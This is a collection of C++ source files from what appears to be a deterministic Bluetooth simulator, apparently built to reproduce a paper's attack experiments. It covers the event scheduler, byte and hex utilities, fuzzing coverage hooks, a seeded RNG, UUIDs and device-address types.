ByteWriter& ByteWriter::raw(BytesView data) {
  buf_.insert(buf_.end(), data.begin(), data.end());
  return *this;
}

}  // namespace blap
