#include "common/sancov_registry.hpp"

namespace blap {

std::vector<SancovModule>& sancov_modules() {
  // Function-local static: module constructors run before main() in
  // arbitrary order, so the registry must construct on first use.
  static std::vector<SancovModule> modules;
  return modules;
}

}  // namespace blap

#if defined(BLAP_FUZZ_SANCOV)
// Clang's -fsanitize-coverage=inline-8bit-counters runtime hook: called once
// per instrumented module before main(). We only record the counter ranges;
// the fuzz engine walks and zeroes them after each execution.
extern "C" void __sanitizer_cov_8bit_counters_init(std::uint8_t* start,
                                                   std::uint8_t* stop) {
  if (start == stop) return;
  for (const auto& module : blap::sancov_modules())
    if (module.start == start) return;  // modules can re-register
  blap::sancov_modules().push_back({start, stop});
}

// Companion hook emitted alongside inline-8bit-counters (PC tables). The
// engine derives features from counters alone, so the table is ignored —
// but the symbol must exist for the instrumented binary to link.
extern "C" void __sanitizer_cov_pcs_init(const std::uintptr_t*, const std::uintptr_t*) {}
#endif
