#include "common/scheduler.hpp"

#include <algorithm>
#include <utility>

namespace blap {
namespace {

// High-water capacity pool for Scheduler storage. Campaign workloads
// construct one Simulation — and so one Scheduler — per trial; each new
// Scheduler pre-reserves the largest queue/slot capacity any earlier
// Scheduler on this thread reached, so steady-state trials pay a fixed
// up-front reserve instead of a log(n) chain of growth reallocations.
// Thread-local: campaign workers each get a private pool, no synchronisation.
struct StoragePool {
  std::size_t heap_capacity = 0;
  std::size_t slot_capacity = 0;
};

StoragePool& pool() {
  thread_local StoragePool p;
  return p;
}

}  // namespace

void EventHandle::cancel() {
  if (scheduler_ != nullptr && scheduler_->slot_live(slot_, generation_)) {
    // Detach the queued event; its slot is returned to the free list when it
    // is eventually popped (the queue entry itself stays until then).
    ++scheduler_->generations_[slot_];
  }
}

bool EventHandle::pending() const {
  return scheduler_ != nullptr && scheduler_->slot_live(slot_, generation_);
}

Scheduler::Scheduler() {
  const StoragePool& p = pool();
  if (p.heap_capacity > 0) heap_.reserve(p.heap_capacity);
  if (p.slot_capacity > 0) {
    generations_.reserve(p.slot_capacity);
    free_slots_.reserve(p.slot_capacity);
  }
}

Scheduler::~Scheduler() {
  StoragePool& p = pool();
  p.heap_capacity = std::max(p.heap_capacity, heap_.capacity());
  p.slot_capacity = std::max(p.slot_capacity, generations_.capacity());
}

void Scheduler::reserve(std::size_t events) {
  heap_.reserve(events);
  generations_.reserve(events);
  free_slots_.reserve(events);
}

EventHandle Scheduler::schedule_at(SimTime when, std::function<void()> fn) {
  std::uint32_t slot;
  if (free_slots_.empty()) {
    slot = static_cast<std::uint32_t>(generations_.size());
    generations_.push_back(0);
  } else {
    slot = free_slots_.back();
    free_slots_.pop_back();
  }
  const std::uint32_t generation = generations_[slot];
  heap_.push_back(Event{when < now_ ? now_ : when, next_seq_++, slot, generation,
                        std::move(fn)});
  std::push_heap(heap_.begin(), heap_.end(), Later{});
  return EventHandle(this, slot, generation);
}

EventHandle Scheduler::schedule_in(SimTime delay, std::function<void()> fn) {
  return schedule_at(now_ + delay, std::move(fn));
}

EventHandle Scheduler::schedule_at_seq(SimTime when, std::uint64_t seq,
                                       std::function<void()> fn) {
  std::uint32_t slot;
  if (free_slots_.empty()) {
    slot = static_cast<std::uint32_t>(generations_.size());
    generations_.push_back(0);
  } else {
    slot = free_slots_.back();
    free_slots_.pop_back();
  }
  const std::uint32_t generation = generations_[slot];
  heap_.push_back(Event{when < now_ ? now_ : when, seq, slot, generation, std::move(fn)});
  std::push_heap(heap_.begin(), heap_.end(), Later{});
  return EventHandle(this, slot, generation);
}

Scheduler::Event Scheduler::pop_event() {
  std::pop_heap(heap_.begin(), heap_.end(), Later{});
  Event ev = std::move(heap_.back());
  heap_.pop_back();
  return ev;
}

std::size_t Scheduler::run_until(SimTime deadline) {
  std::size_t executed = 0;
  while (!heap_.empty() && heap_.front().when <= deadline) {
    Event ev = pop_event();
    now_ = ev.when;
    if (slot_live(ev.slot, ev.generation)) {
      retire_slot(ev.slot);  // pending() is false inside the callback
      ev.fn();
      ++executed;
      if (hook_ != nullptr) hook_->on_dispatch(now_, heap_.size());
    } else {
      free_slots_.push_back(ev.slot);  // cancelled; generation already bumped
    }
  }
  // The clock always reaches the deadline: events beyond it stay queued,
  // but a subsequent run_for() must resume from the deadline, not from the
  // last executed event.
  if (now_ < deadline) now_ = deadline;
  return executed;
}

bool Scheduler::step() {
  while (!heap_.empty()) {
    Event ev = pop_event();
    // The clock advances for cancelled entries too, exactly as run_until()
    // and run_all() do — a k-step prefix must leave the simulation in the
    // same state as any other way of executing those k events.
    now_ = ev.when;
    if (slot_live(ev.slot, ev.generation)) {
      retire_slot(ev.slot);
      ev.fn();
      if (hook_ != nullptr) hook_->on_dispatch(now_, heap_.size());
      return true;
    }
    free_slots_.push_back(ev.slot);  // cancelled; generation already bumped
  }
  return false;
}

void Scheduler::rewind(SimTime now, std::uint64_t next_seq) {
  for (const Event& ev : heap_) {
    // Live events are detached exactly as cancel() would: bump the slot
    // generation so outstanding handles go stale. Cancelled entries had
    // their generation bumped already.
    if (slot_live(ev.slot, ev.generation)) ++generations_[ev.slot];
  }
  heap_.clear();
  // Rebuild the free list from scratch: with the queue empty, every slot is
  // free (duplicates from the pre-rewind list would hand the same slot to
  // two events, so the list must be reconstructed, not appended to).
  free_slots_.clear();
  for (std::uint32_t slot = 0; slot < generations_.size(); ++slot)
    free_slots_.push_back(slot);
  now_ = now;
  next_seq_ = next_seq;
}

std::size_t Scheduler::run_all() {
  std::size_t executed = 0;
  while (!heap_.empty()) {
    Event ev = pop_event();
    now_ = ev.when;
    if (slot_live(ev.slot, ev.generation)) {
      retire_slot(ev.slot);
      ev.fn();
      ++executed;
      if (hook_ != nullptr) hook_->on_dispatch(now_, heap_.size());
    } else {
      free_slots_.push_back(ev.slot);
    }
  }
  return executed;
}

}  // namespace blap
