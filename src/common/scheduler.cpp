#include "common/scheduler.hpp"

#include <utility>

namespace blap {

void EventHandle::cancel() {
  if (alive_) *alive_ = false;
}

bool EventHandle::pending() const { return alive_ && *alive_; }

EventHandle Scheduler::schedule_at(SimTime when, std::function<void()> fn) {
  auto alive = std::make_shared<bool>(true);
  queue_.push(Event{when < now_ ? now_ : when, next_seq_++, std::move(fn), alive});
  return EventHandle(std::move(alive));
}

EventHandle Scheduler::schedule_in(SimTime delay, std::function<void()> fn) {
  return schedule_at(now_ + delay, std::move(fn));
}

std::size_t Scheduler::run_until(SimTime deadline) {
  std::size_t executed = 0;
  while (!queue_.empty() && queue_.top().when <= deadline) {
    Event ev = queue_.top();
    queue_.pop();
    now_ = ev.when;
    if (*ev.alive) {
      *ev.alive = false;  // mark fired before running, so pending() is false inside the callback
      ev.fn();
      ++executed;
    }
  }
  // The clock always reaches the deadline: events beyond it stay queued,
  // but a subsequent run_for() must resume from the deadline, not from the
  // last executed event.
  if (now_ < deadline) now_ = deadline;
  return executed;
}

std::size_t Scheduler::run_all() {
  std::size_t executed = 0;
  while (!queue_.empty()) {
    Event ev = queue_.top();
    queue_.pop();
    now_ = ev.when;
    if (*ev.alive) {
      *ev.alive = false;
      ev.fn();
      ++executed;
    }
  }
  return executed;
}

}  // namespace blap
