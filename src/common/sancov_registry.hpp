// sancov_registry.hpp — process-wide sanitizer-coverage counter registry.
//
// When the tree is built with -fsanitize-coverage=inline-8bit-counters
// (CMake option BLAP_FUZZ_SANCOV, clang only), every translation unit gains
// a module constructor that calls __sanitizer_cov_8bit_counters_init()
// before main(). Those hooks must resolve in *every* binary of an
// instrumented build — tests, tools, benches — not only the fuzzer, which
// is why the registry and hook definitions live here in blap_common, the
// one library everything links. The fuzz engine (src/fuzz/coverage.cpp) is
// the sole reader.
//
// Without BLAP_FUZZ_SANCOV the hooks are not defined (they would collide
// with a real sanitizer runtime under BLAP_SANITIZE) and the registry is
// permanently empty.
#pragma once

#include <cstdint>
#include <vector>

namespace blap {

/// One instrumented module's inline-8bit-counter range, [start, stop).
struct SancovModule {
  std::uint8_t* start = nullptr;
  std::uint8_t* stop = nullptr;
};

/// Registered instrumented modules. Filled before main() by the
/// __sanitizer_cov_8bit_counters_init callbacks; read-only afterwards.
[[nodiscard]] std::vector<SancovModule>& sancov_modules();

}  // namespace blap
