// bytes.hpp — byte buffer utilities shared by every BLAP module.
//
// The simulator moves opaque octet strings between layers (HCI packets, LMP
// PDUs, snoop records, USB frames). This header provides:
//   * Bytes           — the canonical owning byte-buffer type
//   * hex/unhex       — lossless hex codecs (lowercase, no separators)
//   * hex_pretty      — space-separated hex for human-facing dumps
//   * hexdump         — classic offset/hex/ascii dump used by the snoop tools
//   * ByteReader      — bounds-checked little-endian cursor over a buffer
//   * ByteWriter      — append-only little-endian builder
//
// Bluetooth HCI is little-endian on the wire; all multi-byte integer helpers
// here are little-endian unless the name says otherwise.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace blap {

using Bytes = std::vector<std::uint8_t>;
using BytesView = std::span<const std::uint8_t>;

/// Encode a byte span as lowercase hex with no separators ("0b0416...").
[[nodiscard]] std::string hex(BytesView data);

/// Encode as hex with a single space between bytes ("0b 04 16 ...").
/// This matches the format the paper's BinaryToHex converter emits, which the
/// USB-sniff extraction then searches for the "0b 04 16" opcode pattern.
[[nodiscard]] std::string hex_pretty(BytesView data);

/// Decode hex (accepts upper/lower case and optional spaces/colons).
/// Returns std::nullopt on any malformed input.
[[nodiscard]] std::optional<Bytes> unhex(std::string_view text);

/// Classic 16-bytes-per-line hexdump with offsets and an ASCII gutter.
[[nodiscard]] std::string hexdump(BytesView data);

/// Constant-time comparison of two equal-length byte strings. Used when
/// checking authentication responses so the simulator's verifier mirrors a
/// non-leaky implementation.
[[nodiscard]] bool ct_equal(BytesView a, BytesView b);

/// Bounds-checked sequential reader over a byte buffer (little-endian).
/// All accessors return std::nullopt once the buffer is exhausted; a parse
/// that sees nullopt should abandon the packet rather than trust partial
/// data — the snoop reader relies on this to survive truncated logs.
class ByteReader {
 public:
  explicit ByteReader(BytesView data) : data_(data) {}

  [[nodiscard]] std::size_t remaining() const { return data_.size() - pos_; }
  [[nodiscard]] bool empty() const { return remaining() == 0; }
  [[nodiscard]] std::size_t position() const { return pos_; }

  [[nodiscard]] std::optional<std::uint8_t> u8();
  [[nodiscard]] std::optional<std::uint16_t> u16();   // little-endian
  [[nodiscard]] std::optional<std::uint32_t> u32();   // little-endian
  [[nodiscard]] std::optional<std::uint64_t> u64();   // little-endian
  [[nodiscard]] std::optional<std::uint32_t> u32be(); // big-endian (snoop hdr)
  [[nodiscard]] std::optional<std::uint64_t> u64be(); // big-endian (snoop hdr)

  /// Read exactly n bytes; nullopt if fewer remain.
  [[nodiscard]] std::optional<Bytes> bytes(std::size_t n);

  /// Read exactly N bytes into a fixed array; nullopt if fewer remain.
  template <std::size_t N>
  [[nodiscard]] std::optional<std::array<std::uint8_t, N>> array() {
    if (remaining() < N) return std::nullopt;
    std::array<std::uint8_t, N> out{};
    for (std::size_t i = 0; i < N; ++i) out[i] = data_[pos_ + i];
    pos_ += N;
    return out;
  }

  /// Skip n bytes; returns false (and consumes nothing) if fewer remain.
  bool skip(std::size_t n);

  /// The unconsumed tail.
  [[nodiscard]] BytesView rest() const { return data_.subspan(pos_); }

 private:
  BytesView data_;
  std::size_t pos_ = 0;
};

/// Append-only little-endian packet builder.
class ByteWriter {
 public:
  ByteWriter() = default;

  ByteWriter& u8(std::uint8_t v);
  ByteWriter& u16(std::uint16_t v);    // little-endian
  ByteWriter& u32(std::uint32_t v);    // little-endian
  ByteWriter& u64(std::uint64_t v);    // little-endian
  ByteWriter& u32be(std::uint32_t v);  // big-endian (snoop header fields)
  ByteWriter& u64be(std::uint64_t v);  // big-endian (snoop header fields)
  ByteWriter& raw(BytesView data);

  [[nodiscard]] const Bytes& data() const& { return buf_; }
  [[nodiscard]] Bytes take() && { return std::move(buf_); }
  [[nodiscard]] std::size_t size() const { return buf_.size(); }

 private:
  Bytes buf_;
};

/// Convert a span to an owning Bytes.
[[nodiscard]] inline Bytes to_bytes(BytesView v) { return Bytes(v.begin(), v.end()); }

}  // namespace blap
