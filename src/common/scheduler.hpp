// scheduler.hpp — discrete-event simulation core.
//
// Every BLAP scenario runs on a single-threaded virtual clock. Components
// (radio medium, transports, controllers, hosts) schedule callbacks at future
// virtual instants; run_until()/run_for() advance time by popping the event
// queue in timestamp order. Determinism rules:
//   * ties in timestamp are broken by insertion sequence number, so two
//     events scheduled for the same instant fire in schedule order;
//   * all randomness (e.g. page-response jitter) is injected by callers from
//     seeded Rng streams — the scheduler itself is entirely deterministic.
//
// Cancellation uses generation-counted slots instead of a per-event
// shared_ptr<bool>: a handle is {slot index, generation}, live iff the slot's
// current generation matches. The never-cancelled common case costs zero heap
// allocations (slots live in a pooled vector), and cancel() stays O(1).
// Queue/slot storage is recycled through a thread-local pool so that
// campaign-style workloads building one Scheduler per trial do not re-pay
// vector growth every trial.
//
// Lifetime contract: an EventHandle holds a raw back-pointer into its
// Scheduler and must not be used after that Scheduler is destroyed. All
// in-tree holders (host/controller timers) are owned by Devices, which a
// Simulation destroys before its Scheduler.
//
// Virtual time is in microseconds; Bluetooth's 625 us slot is the natural
// granularity for baseband events.
#pragma once

#include <cstdint>
#include <functional>
#include <vector>

namespace blap {

/// Virtual time in microseconds since scenario start.
using SimTime = std::uint64_t;

constexpr SimTime kMicrosecond = 1;
constexpr SimTime kMillisecond = 1000;
constexpr SimTime kSecond = 1'000'000;
/// One Bluetooth baseband slot (625 us).
constexpr SimTime kSlot = 625;

class Scheduler;

/// Observation point for event dispatch. The observability layer (src/obs/)
/// implements this to count dispatched events and watch queue depth without
/// the scheduler knowing anything about metrics. With no hook installed the
/// run loops pay exactly one predictable branch per event.
class SchedulerHook {
 public:
  virtual ~SchedulerHook() = default;
  /// Called after each event callback returns. `queue_depth` is the number
  /// of events still queued (live or cancelled) at that instant.
  virtual void on_dispatch(SimTime now, std::size_t queue_depth) = 0;
};

/// Handle to a scheduled event; lets the owner cancel it. Cheap to copy.
/// Must not outlive the Scheduler that issued it (see header comment).
class EventHandle {
 public:
  EventHandle() = default;

  /// Cancel the event if it has not fired yet. Safe to call repeatedly and
  /// safe to call on a default-constructed handle.
  void cancel();

  /// True if the event is still queued (not fired, not cancelled).
  [[nodiscard]] bool pending() const;

 private:
  friend class Scheduler;
  EventHandle(Scheduler* scheduler, std::uint32_t slot, std::uint32_t generation)
      : scheduler_(scheduler), slot_(slot), generation_(generation) {}
  Scheduler* scheduler_ = nullptr;
  std::uint32_t slot_ = 0;
  std::uint32_t generation_ = 0;
};

class Scheduler {
 public:
  Scheduler();
  ~Scheduler();
  Scheduler(const Scheduler&) = delete;
  Scheduler& operator=(const Scheduler&) = delete;

  [[nodiscard]] SimTime now() const { return now_; }

  /// Schedule fn to run at absolute virtual time `when` (clamped to now).
  EventHandle schedule_at(SimTime when, std::function<void()> fn);

  /// Schedule fn to run `delay` microseconds from now.
  EventHandle schedule_in(SimTime delay, std::function<void()> fn);

  /// Reserve `count` consecutive sequence numbers and return the first.
  /// Batched event sources (the radio medium's inquiry-response fan-out)
  /// draw their tie-break sequence numbers up front so that one cursor
  /// event delivering k callbacks is ordered exactly as k individually
  /// scheduled events would have been.
  [[nodiscard]] std::uint64_t reserve_seqs(std::size_t count) {
    const std::uint64_t base = next_seq_;
    next_seq_ += count;
    return base;
  }

  /// schedule_at() with an explicit tie-break sequence number previously
  /// obtained from reserve_seqs(). The caller owns the contract that `seq`
  /// was reserved and is used at most once per queue residency.
  EventHandle schedule_at_seq(SimTime when, std::uint64_t seq, std::function<void()> fn);

  /// Run events until the queue is empty or `deadline` is passed; the clock
  /// ends at min(deadline, last event time). Returns events executed.
  std::size_t run_until(SimTime deadline);

  /// Run events for `duration` more virtual microseconds.
  std::size_t run_for(SimTime duration) { return run_until(now_ + duration); }

  /// Drain the queue completely (caller must ensure the event graph
  /// quiesces; periodic self-rescheduling events would never finish).
  std::size_t run_all();

  /// Run exactly one live event (retiring any cancelled entries ahead of
  /// it, advancing the clock past them exactly as run_until() would, so a
  /// k-step prefix is indistinguishable from any other way of executing
  /// those k events). Returns false when the queue holds no live event.
  /// The snapshot round-trip tests use this to stop the world at arbitrary
  /// event boundaries.
  bool step();

  /// Snapshot support: drop every queued event (live or cancelled) and
  /// reset the clock/sequence counter to a captured state. Every slot is
  /// retired, so any EventHandle issued before the rewind is guaranteed
  /// stale afterwards: pending() returns false and cancel() is a safe
  /// no-op, even if the slot has since been reused for a new event.
  void rewind(SimTime now, std::uint64_t next_seq);

  /// The sequence number the next scheduled event will get. Together with
  /// now(), this is the scheduler's serializable state at a quiescent
  /// point (an idle scheduler has no other state that can influence the
  /// future).
  [[nodiscard]] std::uint64_t next_seq() const { return next_seq_; }

  /// Pre-size queue and slot storage for about `events` in-flight events.
  void reserve(std::size_t events);

  [[nodiscard]] bool idle() const { return heap_.empty(); }
  [[nodiscard]] std::size_t pending_events() const { return heap_.size(); }

  /// Install (or clear, with nullptr) the dispatch hook. The hook must
  /// outlive the scheduler or be cleared before it is destroyed.
  void set_hook(SchedulerHook* hook) { hook_ = hook; }
  [[nodiscard]] SchedulerHook* hook() const { return hook_; }

 private:
  friend class EventHandle;

  struct Event {
    SimTime when;
    std::uint64_t seq;
    std::uint32_t slot;
    std::uint32_t generation;
    std::function<void()> fn;
  };
  struct Later {
    bool operator()(const Event& a, const Event& b) const {
      if (a.when != b.when) return a.when > b.when;
      return a.seq > b.seq;
    }
  };

  [[nodiscard]] bool slot_live(std::uint32_t slot, std::uint32_t generation) const {
    return slot < generations_.size() && generations_[slot] == generation;
  }
  void retire_slot(std::uint32_t slot) {
    ++generations_[slot];
    free_slots_.push_back(slot);
  }
  Event pop_event();
  /// Pop the next live event at or before `deadline`, retiring cancelled
  /// ones along the way. Returns false when none qualifies.
  bool pop_runnable(SimTime deadline, Event& out);

  SimTime now_ = 0;
  SchedulerHook* hook_ = nullptr;
  std::uint64_t next_seq_ = 0;
  std::vector<Event> heap_;                 // binary min-heap ordered by Later
  std::vector<std::uint32_t> generations_;  // current generation per slot
  std::vector<std::uint32_t> free_slots_;
};

}  // namespace blap
