// scheduler.hpp — discrete-event simulation core.
//
// Every BLAP scenario runs on a single-threaded virtual clock. Components
// (radio medium, transports, controllers, hosts) schedule callbacks at future
// virtual instants; run_until()/run_for() advance time by popping the event
// queue in timestamp order. Determinism rules:
//   * ties in timestamp are broken by insertion sequence number, so two
//     events scheduled for the same instant fire in schedule order;
//   * all randomness (e.g. page-response jitter) is injected by callers from
//     seeded Rng streams — the scheduler itself is entirely deterministic.
//
// Virtual time is in microseconds; Bluetooth's 625 us slot is the natural
// granularity for baseband events.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <queue>
#include <vector>

namespace blap {

/// Virtual time in microseconds since scenario start.
using SimTime = std::uint64_t;

constexpr SimTime kMicrosecond = 1;
constexpr SimTime kMillisecond = 1000;
constexpr SimTime kSecond = 1'000'000;
/// One Bluetooth baseband slot (625 us).
constexpr SimTime kSlot = 625;

/// Handle to a scheduled event; lets the owner cancel it. Cheap to copy.
class EventHandle {
 public:
  EventHandle() = default;

  /// Cancel the event if it has not fired yet. Safe to call repeatedly and
  /// safe to call on a default-constructed handle.
  void cancel();

  /// True if the event is still queued (not fired, not cancelled).
  [[nodiscard]] bool pending() const;

 private:
  friend class Scheduler;
  explicit EventHandle(std::shared_ptr<bool> alive) : alive_(std::move(alive)) {}
  std::shared_ptr<bool> alive_;
};

class Scheduler {
 public:
  Scheduler() = default;
  Scheduler(const Scheduler&) = delete;
  Scheduler& operator=(const Scheduler&) = delete;

  [[nodiscard]] SimTime now() const { return now_; }

  /// Schedule fn to run at absolute virtual time `when` (clamped to now).
  EventHandle schedule_at(SimTime when, std::function<void()> fn);

  /// Schedule fn to run `delay` microseconds from now.
  EventHandle schedule_in(SimTime delay, std::function<void()> fn);

  /// Run events until the queue is empty or `deadline` is passed; the clock
  /// ends at min(deadline, last event time). Returns events executed.
  std::size_t run_until(SimTime deadline);

  /// Run events for `duration` more virtual microseconds.
  std::size_t run_for(SimTime duration) { return run_until(now_ + duration); }

  /// Drain the queue completely (caller must ensure the event graph
  /// quiesces; periodic self-rescheduling events would never finish).
  std::size_t run_all();

  [[nodiscard]] bool idle() const { return queue_.empty(); }
  [[nodiscard]] std::size_t pending_events() const { return queue_.size(); }

 private:
  struct Event {
    SimTime when;
    std::uint64_t seq;
    std::function<void()> fn;
    std::shared_ptr<bool> alive;
  };
  struct Later {
    bool operator()(const Event& a, const Event& b) const {
      if (a.when != b.when) return a.when > b.when;
      return a.seq > b.seq;
    }
  };

  SimTime now_ = 0;
  std::uint64_t next_seq_ = 0;
  std::priority_queue<Event, std::vector<Event>, Later> queue_;
};

}  // namespace blap
