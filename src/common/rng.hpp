// rng.hpp — deterministic random number generation for the simulator.
//
// Everything random in BLAP (nonces, ECDH private keys, page-response timing
// jitter) flows through a seeded Rng so that every experiment is exactly
// reproducible: same seed → same link keys, same HCI dumps, same Table II
// success counts. The generator is xoshiro256** (public-domain algorithm),
// chosen for speed and statistical quality; it is NOT a CSPRNG — fine for a
// simulator whose security properties are structural, not entropic.
#pragma once

#include <array>
#include <cstdint>

#include "common/bytes.hpp"

namespace blap {

class Rng {
 public:
  /// Seeds via splitmix64 so that nearby seeds yield unrelated streams.
  explicit Rng(std::uint64_t seed);

  /// Next raw 64 random bits.
  std::uint64_t next_u64();

  /// Uniform in [0, bound). bound must be > 0.
  std::uint64_t uniform(std::uint64_t bound);

  /// Uniform integer in [lo, hi] inclusive.
  std::int64_t uniform_range(std::int64_t lo, std::int64_t hi);

  /// Uniform double in [0, 1).
  double uniform01();

  /// Bernoulli trial with probability p of true.
  bool chance(double p);

  /// Fill a fixed-size array with random bytes (link keys, nonces, RANDs).
  template <std::size_t N>
  std::array<std::uint8_t, N> bytes() {
    std::array<std::uint8_t, N> out{};
    fill(out.data(), N);
    return out;
  }

  /// Fill an owning buffer of n random bytes.
  Bytes buffer(std::size_t n);

  /// Derive an independent child stream (device-local RNGs from a scenario
  /// master seed, so adding a device never perturbs another device's stream).
  Rng fork();

  /// Snapshot support: the full xoshiro256** state. Restoring it with
  /// set_state() resumes the stream exactly where it was captured.
  [[nodiscard]] const std::array<std::uint64_t, 4>& state() const { return state_; }
  void set_state(const std::array<std::uint64_t, 4>& state) { state_ = state; }

 private:
  void fill(std::uint8_t* dst, std::size_t n);
  std::array<std::uint64_t, 4> state_{};
};

}  // namespace blap
