// uuid.hpp — Bluetooth service UUIDs.
//
// SDP records and bonded-device config entries identify profiles by UUID.
// Bluetooth defines a 16-bit shorthand expanded against the Bluetooth Base
// UUID (00000000-0000-1000-8000-00805f9b34fb). The paper's fake bonding entry
// lists PAN UUIDs 0x1115 (PANU) and 0x1116 (NAP) in exactly this expanded
// form.
#pragma once

#include <array>
#include <compare>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

namespace blap {

class Uuid {
 public:
  static constexpr std::size_t kSize = 16;

  constexpr Uuid() = default;
  explicit constexpr Uuid(std::array<std::uint8_t, kSize> b) : bytes_(b) {}

  /// Expand a 16-bit Bluetooth-assigned UUID against the Base UUID.
  [[nodiscard]] static Uuid from_uuid16(std::uint16_t short_uuid);

  /// Parse "00001115-0000-1000-8000-00805f9b34fb".
  [[nodiscard]] static std::optional<Uuid> parse(std::string_view text);

  /// If this UUID is a Base-UUID expansion, return its 16-bit form.
  [[nodiscard]] std::optional<std::uint16_t> as_uuid16() const;

  [[nodiscard]] std::string to_string() const;
  [[nodiscard]] const std::array<std::uint8_t, kSize>& bytes() const { return bytes_; }

  friend constexpr auto operator<=>(const Uuid&, const Uuid&) = default;

 private:
  std::array<std::uint8_t, kSize> bytes_{};
};

namespace uuid16 {
// Profile UUIDs used by BLAP scenarios (Bluetooth Assigned Numbers).
inline constexpr std::uint16_t kSerialPort = 0x1101;
inline constexpr std::uint16_t kHeadset = 0x1108;
inline constexpr std::uint16_t kAudioSink = 0x110B;
inline constexpr std::uint16_t kPanu = 0x1115;       // PAN user (tethering client)
inline constexpr std::uint16_t kNap = 0x1116;        // PAN network access point
inline constexpr std::uint16_t kHandsFree = 0x111E;  // HFP
inline constexpr std::uint16_t kPbap = 0x112F;       // Phone Book Access (server)
inline constexpr std::uint16_t kMap = 0x1132;        // Message Access
inline constexpr std::uint16_t kSdpServer = 0x1000;
}  // namespace uuid16

}  // namespace blap
