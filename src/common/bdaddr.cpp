#include "common/bdaddr.hpp"

#include <cstdio>

namespace blap {

std::optional<BdAddr> BdAddr::parse(std::string_view text) {
  std::array<std::uint8_t, kSize> out{};
  std::size_t byte_idx = 0;
  int hi = -1;
  auto hexv = [](char c) -> int {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
  };
  for (char c : text) {
    if (c == ':' || c == '-') {
      if (hi >= 0) return std::nullopt;
      continue;
    }
    const int v = hexv(c);
    if (v < 0) return std::nullopt;
    if (hi < 0) {
      hi = v;
    } else {
      if (byte_idx >= kSize) return std::nullopt;
      out[byte_idx++] = static_cast<std::uint8_t>((hi << 4) | v);
      hi = -1;
    }
  }
  if (byte_idx != kSize || hi >= 0) return std::nullopt;
  return BdAddr(out);
}

std::optional<BdAddr> BdAddr::from_wire(ByteReader& r) {
  auto raw = r.array<kSize>();
  if (!raw) return std::nullopt;
  std::array<std::uint8_t, kSize> be{};
  for (std::size_t i = 0; i < kSize; ++i) be[i] = (*raw)[kSize - 1 - i];
  return BdAddr(be);
}

void BdAddr::to_wire(ByteWriter& w) const {
  for (std::size_t i = 0; i < kSize; ++i) w.u8(bytes_[kSize - 1 - i]);
}

std::uint32_t BdAddr::lap() const {
  return (static_cast<std::uint32_t>(bytes_[3]) << 16) |
         (static_cast<std::uint32_t>(bytes_[4]) << 8) | bytes_[5];
}

std::uint8_t BdAddr::uap() const { return bytes_[2]; }

std::uint16_t BdAddr::nap() const {
  return static_cast<std::uint16_t>((bytes_[0] << 8) | bytes_[1]);
}

std::string BdAddr::to_string() const {
  char buf[18];
  std::snprintf(buf, sizeof(buf), "%02x:%02x:%02x:%02x:%02x:%02x", bytes_[0], bytes_[1],
                bytes_[2], bytes_[3], bytes_[4], bytes_[5]);
  return buf;
}

bool BdAddr::is_zero() const {
  for (std::uint8_t b : bytes_)
    if (b != 0) return false;
  return true;
}

std::string ClassOfDevice::describe() const {
  switch (major_class()) {
    case 0x01: return "Computer";
    case 0x02: return "Phone";
    case 0x03: return "LAN/Network AP";
    case 0x04: return "Audio/Video";
    case 0x05: return "Peripheral";
    case 0x06: return "Imaging";
    case 0x07: return "Wearable";
    default: return "Misc";
  }
}

void ClassOfDevice::to_wire(ByteWriter& w) const {
  w.u8(static_cast<std::uint8_t>(raw_));
  w.u8(static_cast<std::uint8_t>(raw_ >> 8));
  w.u8(static_cast<std::uint8_t>(raw_ >> 16));
}

std::optional<ClassOfDevice> ClassOfDevice::from_wire(ByteReader& r) {
  auto b0 = r.u8();
  auto b1 = r.u8();
  auto b2 = r.u8();
  if (!b0 || !b1 || !b2) return std::nullopt;
  return ClassOfDevice(static_cast<std::uint32_t>(*b0) | (static_cast<std::uint32_t>(*b1) << 8) |
                       (static_cast<std::uint32_t>(*b2) << 16));
}

}  // namespace blap
