// bdaddr.hpp — Bluetooth device address (BD_ADDR) and Class of Device types.
//
// BD_ADDR is the 48-bit public address every BR/EDR controller owns. It is
// structured as LAP (lower 24 bits), UAP (8 bits), NAP (16 bits); the paper's
// Fig. 11 decodes a key-bearing HCI command into exactly these fields. On the
// HCI wire the address travels little-endian (LAP byte first).
//
// Class of Device (COD) is the 24-bit device-class advertised in inquiry
// responses; the paper's attacker rewrites it from "mobile phone" (0x5A020C)
// to "hands-free" (0x3C0404) when impersonating a car-kit.
#pragma once

#include <array>
#include <compare>
#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <string_view>

#include "common/bytes.hpp"

namespace blap {

/// 48-bit Bluetooth device address. Stored big-endian (bytes()[0] is the NAP
/// high byte, matching the human-readable "aa:bb:cc:dd:ee:ff" order).
class BdAddr {
 public:
  static constexpr std::size_t kSize = 6;

  constexpr BdAddr() = default;
  explicit constexpr BdAddr(std::array<std::uint8_t, kSize> b) : bytes_(b) {}

  /// Parse "aa:bb:cc:dd:ee:ff" (case-insensitive; '-' also accepted).
  [[nodiscard]] static std::optional<BdAddr> parse(std::string_view text);

  /// Decode from HCI wire order (little-endian, LAP first).
  [[nodiscard]] static std::optional<BdAddr> from_wire(ByteReader& r);

  /// Encode into HCI wire order (little-endian).
  void to_wire(ByteWriter& w) const;

  [[nodiscard]] const std::array<std::uint8_t, kSize>& bytes() const { return bytes_; }

  /// Lower Address Part — 24 bits, used by baseband paging/inquiry.
  [[nodiscard]] std::uint32_t lap() const;
  /// Upper Address Part — 8 bits.
  [[nodiscard]] std::uint8_t uap() const;
  /// Non-significant Address Part — 16 bits.
  [[nodiscard]] std::uint16_t nap() const;

  [[nodiscard]] std::string to_string() const;

  /// The all-zero address, used as "unset".
  [[nodiscard]] bool is_zero() const;

  friend constexpr auto operator<=>(const BdAddr&, const BdAddr&) = default;

 private:
  std::array<std::uint8_t, kSize> bytes_{};
};

/// 24-bit Class of Device.
class ClassOfDevice {
 public:
  constexpr ClassOfDevice() = default;
  explicit constexpr ClassOfDevice(std::uint32_t raw) : raw_(raw & 0xFFFFFF) {}

  /// Paper's Fig. 8 values.
  static constexpr std::uint32_t kMobilePhone = 0x5A020C;
